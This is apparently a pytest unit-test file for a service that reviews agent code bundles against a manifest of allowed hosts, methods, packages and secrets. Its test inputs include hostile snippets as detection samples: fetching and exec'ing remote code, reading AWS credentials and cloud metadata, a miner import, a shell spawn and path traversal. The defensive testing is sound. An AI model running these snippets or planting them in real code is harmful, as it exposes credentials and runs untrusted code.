"""Single rules of the review: what the manifest allows, what is refused, what is left alone."""

from __future__ import annotations

import re
from collections.abc import Mapping
from types import MappingProxyType

import pytest

from services.planner.review import Review, review
from shared.agentfile.model import AgentFile, HostRule, Manifest
from shared.net.model_endpoint import MODEL_HOST
from tests.unit.planner.review.samples.sample import plan

GET = 'import requests\nrequests.get("https://shop.example.com{tail}", timeout=5)\n'


def told(
    code: str,
    agent_file: AgentFile,
    packages: tuple[str, ...] = (),
    more: Mapping[str, bytes] = MappingProxyType({}),
) -> Review:
    files = {"main.py": code.encode(), **more}
    return review(files, agent_file, packages, "en")


def with_rule(**rule: object) -> AgentFile:
    made = HostRule.model_validate({"host": "shop.example.com", "why": "reads"} | rule)
    return plan().model_copy(update={"manifest": Manifest(hosts=(made,))})


@pytest.mark.parametrize(
    ("tail", "rule", "difference"),
    [
        ("/new", {"path": "/new"}, ""),
        ("/new/a?b=c", {"path": "/new"}, ""),
        ("/newer", {"path": "/new"}, "other pages"),
        ("", {"path": "/new"}, "other pages"),
        ("/new/../admin", {"path": "/new"}, "other pages"),
        ("/새것", {"path": "/%EC%83%88%EA%B2%83"}, ""),
        ("/new", {"path": "/new", "exact": True}, ""),
        ("/new?page=2", {"path": "/new", "exact": True}, ""),
        ("/new/2", {"path": "/new", "exact": True}, "other pages"),
        (":8443/new", {}, "port 8443"),
        (":8443/new", {"port": 8443}, ""),
        ("/new", {"methods": ("POST",)}, "GET request"),
        (".evil.example/new", {}, "does not name it"),
    ],
)
def test_address_is_held_against_the_rule(tail: str, rule: dict[str, object], difference: str) -> None:
    result = told(GET.format(tail=tail), with_rule(**rule))

    assert bool(result.differences) is bool(difference)
    assert difference in "".join(result.differences)


@pytest.mark.parametrize(("tokens", "difference"), [(0, "uses no tokens"), (100, "")])
def test_the_models_own_host_is_a_matter_of_tokens(tokens: int, difference: str) -> None:
    manifest = Manifest.model_validate({"tokens": {"per_run": tokens, "per_day": tokens}})
    code = GET.replace("shop.example.com", MODEL_HOST).format(tail="/v1/messages")

    result = told(code, plan().model_copy(update={"manifest": manifest}))

    assert bool(result.differences) is bool(difference)
    assert difference in "".join(result.differences)


def test_page_that_cannot_be_told_is_a_doubt_under_a_path_and_a_difference_under_an_exact_page() -> None:
    code = 'import agent, requests\nrequests.get(f"https://shop.example.com/{agent.input["a"]}", timeout=5)\n'.replace(
        '["a"]', "['a']"
    )

    under_path = told(code, with_rule(path="/new"))
    under_exact = told(code, with_rule(path="/new", exact=True))

    assert (under_path.differences, len(under_path.doubts)) == ((), 1)
    assert len(under_exact.differences) == 1


@pytest.mark.parametrize("verb", ["post", "put", "patch", "delete"])
def test_write_to_a_host_that_is_read_is_a_difference(verb: str) -> None:
    code = f'import requests\nrequests.{verb}("https://shop.example.com/a", timeout=5)\n'

    assert "only reads" in told(code, plan("shop.example.com")).differences[0]
    assert told(code, plan("+ shop.example.com")).differences == ()


@pytest.mark.parametrize(
    ("check", "clean"),
    [
        ("if link not in ALLOWED:\n        continue", True),
        ("if not link.startswith('https://shop.example.com/'):\n        continue", True),
        ("if urlsplit(link).netloc != 'shop.example.com':\n        continue", True),
        ("if link not in ALLOWED:\n        pass", False),
        ("if link in ALLOWED:\n        continue", False),
        ("if link not in ALLOWED:\n        continue\n    link = agent.input['b']", False),
        ("if not link.startswith('https://'):\n        continue", False),
    ],
)
def test_check_before_a_request_counts_only_when_it_holds(check: str, clean: bool) -> None:
    code = f"""
import agent
import requests
from urllib.parse import urlsplit
ALLOWED = ["https://shop.example.com/a", "https://shop.example.com/b"]
for link in agent.input["links"]:
    {check}
    requests.get(link, timeout=5)
"""
    result = told(code, plan("shop.example.com"))

    assert (not result.doubts and not result.differences) is clean


@pytest.mark.parametrize(
    ("code", "says"),
    [
        ("def broken(:\n  pass\n", "main.py cannot be read as Python at line 1"),
        ("x = 1\ny = (\n", "at line 2"),
        ('open("/var/run/docker.sock")\n', "keeps its secrets"),
        (
            'from pathlib import Path\nPath("~/.aws/credentials").expanduser().read_text()\n',
            "keeps its secrets",
        ),
        ('import requests\nrequests.get("http://169.254.169.254/latest", timeout=1)\n', "keeps its secrets"),
        ('open(".private/credentials.ini").read()\n', "keeps its secrets"),
        ("import cffi\nffi = cffi.FFI()\n", "memory outside Python"),
        (
            "import marshal, requests\nexec(marshal.loads(requests.get('https://x.example').content))\n",
            "encoded or fetched",
        ),
        ("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n", "encoded or fetched"),
        ("import pyxmr_miner\n", "mines"),
        ("x = " + "-" * 3000 + "1", "too intricate|cannot be read"),
    ],
)
def test_what_is_never_run(code: str, says: str) -> None:
    result = told(code, plan("x.example"))

    assert re.search(says, "\n".join(result.refusals)), result
    assert result.for_model.startswith("main.py:")


def test_compiled_file_in_the_bundle_is_refused() -> None:
    assert review({"main.py": b"", "fast.so": b"\x7fELF"}, plan()).refusals


def test_miner_behind_a_listed_package_is_refused() -> None:
    assert told("", plan(), ("requests==2.32", "Pyxmr_Miner==1")).refusals
    assert told("", plan(), ("requests==2.32",)).refusals == ()


@pytest.mark.parametrize(
    ("code", "packages", "missing"),
    [
        ("import bs4", ("beautifulsoup4>=4.12",), ""),
        ("import cv2", ("opencv-python-headless",), ""),
        ("from dateutil import parser", ("python-dateutil",), ""),
        ("import sklearn.cluster", ("scikit-learn",), ""),
        ("import dotenv", (), "python-dotenv"),
        ("import numpy", ("pandas",), ""),
        ("from google.cloud import storage", (), "google-cloud-storage"),
        ("from google.oauth2 import service_account", ("google-auth",), ""),
        ("import json, tomllib, zoneinfo", (), ""),
        ("import agent", (), ""),
        ("from . import other", (), ""),
    ],
)
def test_import_needs_a_package_that_brings_it(code: str, packages: tuple[str, ...], missing: str) -> None:
    result = told(code, plan(packages=packages))

    assert [found.what for found in result.capabilities if found.kind == "package"] == (
        [missing] if missing else []
    )


def test_lock_decides_once_it_is_known() -> None:
    code = "import numpy\n"

    assert told(code, plan(packages=("pandas",)), ("pandas==2", "numpy==2")).differences == ()
    assert told(code, plan(packages=("pandas",)), ("pandas==2",)).differences


def test_channel_secret_is_never_offered_to_code() -> None:
    code = 'import agent, requests\nrequests.post(agent.secret("SLACK_WEBHOOK_URL"), json={}, timeout=5)\n'

    result = told(code, plan(channels=("slack",)))

    assert "belongs to a channel" in result.differences[0]
    assert "agent.deliver()" in result.for_model


def test_secret_that_is_an_address_goes_where_it_is_bound() -> None:
    code = 'import agent, requests\nrequests.post(agent.secret("HOOK_URL"), json={}, timeout=5)\n'

    result = told(code, plan("+ hooks.example.com/a", secrets=(("HOOK_URL", "hooks.example.com"),)))

    assert ("host", "hooks.example.com", True) in [(f.kind, f.what, f.certain) for f in result.capabilities]
    assert result.differences == ()


def test_every_finding_names_its_file_and_line() -> None:
    result = told(
        "import os\n\n\nos.system('id')\n", plan(), more={"more/tool.py": b"import pty\npty.spawn('sh')\n"}
    )

    assert [(found.what, found.file, found.line) for found in result.capabilities] == [
        ("os.system", "main.py", 4),
        ("pty.spawn", "more/tool.py", 2),
    ]


def test_sentences_are_korean_unless_asked_otherwise() -> None:
    files = {"main.py": b"import os\nos.system('id')\n"}

    assert review(files, plan()).differences == (
        "코드가 다른 프로그램을 실행해요(os.system). 계획에는 없는 일이에요. (main.py 2번째 줄)",
    )
    assert review(files, plan(), language="en").differences == (
        "The code starts other programs (os.system). The plan does not say so. (main.py, line 2)",
    )


def test_words_in_comments_and_texts_are_nothing() -> None:
    code = '''
"""os.system("x"), https://evil.example.net, eval("1")"""
# requests.post("https://evil.example.net")
HELP = "subprocess.run, /etc/passwd, https://evil.example.net/in"
print(HELP)
'''
    assert told(code, plan(), more={"README.md": b"https://evil.example.net"}).capabilities == ()


def test_nothing_nobody_uses_is_found() -> None:
    assert told("import subprocess, socket, smtplib, pickle\n", plan()).capabilities == ()


@pytest.mark.parametrize(
    ("path", "seen"),
    [
        ("../notes.txt", "../notes.txt"),
        ("outputs/../../notes.txt", "outputs/../../notes.txt"),
        ("./state/../../../home/notes.txt", "./state/../../../home/notes.txt"),
        ("outputs/../main.py", None),
        ("state/../state/seen.json", None),
        ("lib/..notes.txt", None),
    ],
)
def test_path_that_climbs_out_of_the_bundle_is_found_by_where_it_ends(path: str, seen: str | None) -> None:
    found = told(f"open({path!r}).read()\n", plan()).capabilities

    assert [(one.kind, one.what) for one in found] == ([("file", seen)] if seen else [])
